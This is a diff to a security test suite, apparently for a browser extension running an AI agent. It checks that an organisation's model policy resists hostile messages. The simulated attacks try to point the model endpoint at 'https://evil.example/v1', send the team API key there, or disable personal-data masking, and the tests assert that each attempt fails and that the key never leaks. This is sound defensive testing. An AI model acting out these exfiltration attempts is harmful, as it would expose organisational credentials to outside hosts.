@@ -82,7 +82,7 @@ describe('the organisation’s policy against messages', () => {
     const r = await as({ type: 'model.set', settings: { preset: 'custom', baseURL: 'https://evil.example/v1', apiKey: '', model: 'team-model' } });
     expect(r.value).toMatchObject({ ok: false, managed: true });
     expect(await modelItem.exists()).toBe(false);
-    expect(await loadModelSettings()).toMatchObject({ baseURL: TEAM, model: 'team-model', apiKey: 'sk-team', maskPersonalData: true });
+    expect(await loadModelSettings()).toMatchObject({ baseURL: TEAM, model: 'team-model', apiKey: '', maskPersonalData: true });
   });
 
   attack('a settings message tries to switch masking off when the policy requires it', async () => {
@@ -92,8 +92,8 @@ describe('the organisation’s policy against messages', () => {
     expect((await loadModelSettings()).maskPersonalData).toBe(true);
   });
 
-  attack('a test of another endpoint tries to carry the policy’s key there', async () => {
-    const { as } = await setup({ model: { baseURL: TEAM, model: 'team-model', apiKey: 'sk-team' } });
+  attack('the key an admin put in the policy, which every content script can read, is the key a test or a request goes out with', async () => {
+    const { as } = await setup({ model: { baseURL: TEAM, model: 'team-model', apiKey: 'sk-team' }, lockModel: true });
     const seen: string[] = [];
     const realFetch = globalThis.fetch;
     globalThis.fetch = (async (input: RequestInfo | URL, init?: RequestInit) => {
@@ -101,13 +101,20 @@ describe('the organisation’s policy against messages', () => {
       return new Response(JSON.stringify({ data: [] }), { headers: { 'content-type': 'application/json' } });
     }) as typeof fetch;
     try {
+      await as({ type: 'model.test', settings: { preset: 'custom', baseURL: TEAM, apiKey: '', model: 'team-model' } });
       await as({ type: 'model.test', settings: { preset: 'custom', baseURL: 'https://evil.example/v1', apiKey: '', model: 'team-model' } });
+      await as({ type: 'setup.status' });
     } finally {
       globalThis.fetch = realFetch;
     }
     expect(seen.length).toBeGreaterThan(0);
     expect(seen.join('\n')).not.toContain('sk-team');
+    expect(await loadModelSettings()).toMatchObject({ baseURL: TEAM, apiKey: '' });
     expect((await as({ type: 'model.get' })).value.apiKey).toBe('');
+    // The agent's own key, kept in the vault, is what goes with the locked endpoint; the pages say why the policy's is not.
+    expect((await as({ type: 'model.set', settings: { preset: 'custom', baseURL: TEAM, apiKey: 'sk-agent', model: 'team-model' } })).value).toMatchObject({ ok: true });
+    expect(await loadModelSettings()).toMatchObject({ baseURL: TEAM, apiKey: 'sk-agent' });
+    expect((await as({ type: 'policy.get' })).value).toMatchObject({ model: { baseURL: TEAM, model: 'team-model' }, lockModel: true, secrets: ['model.apiKey'] });
   });
 
   attack('a message enables a site outside the organisation’s list', async () => {
@@ -176,10 +183,10 @@ describe('the organisation’s policy against messages', () => {
     expect((await as({ type: 'view.get', tabId: 1 })).value.tools.map((t: { name: string }) => t.name)).toContain('reply.send');
   });
 
-  it('tells the pages what is managed, without the key', async () => {
+  it('tells the pages what is managed, and names the key it will not use, never the key', async () => {
     const { as } = await setup();
     const view = (await as({ type: 'policy.get' })).value;
-    expect(view).toMatchObject({ managed: true, lockModel: true, allowedSites: [DESK], sendDisabled: true, requireMasking: true, teamInstructions: true, recipes: ['http://localhost:8080'] });
+    expect(view).toMatchObject({ managed: true, lockModel: true, allowedSites: [DESK], sendDisabled: true, requireMasking: true, teamInstructions: true, recipes: ['http://localhost:8080'], secrets: ['model.apiKey'] });
     expect(JSON.stringify(view)).not.toContain('sk-team');
   });
 });
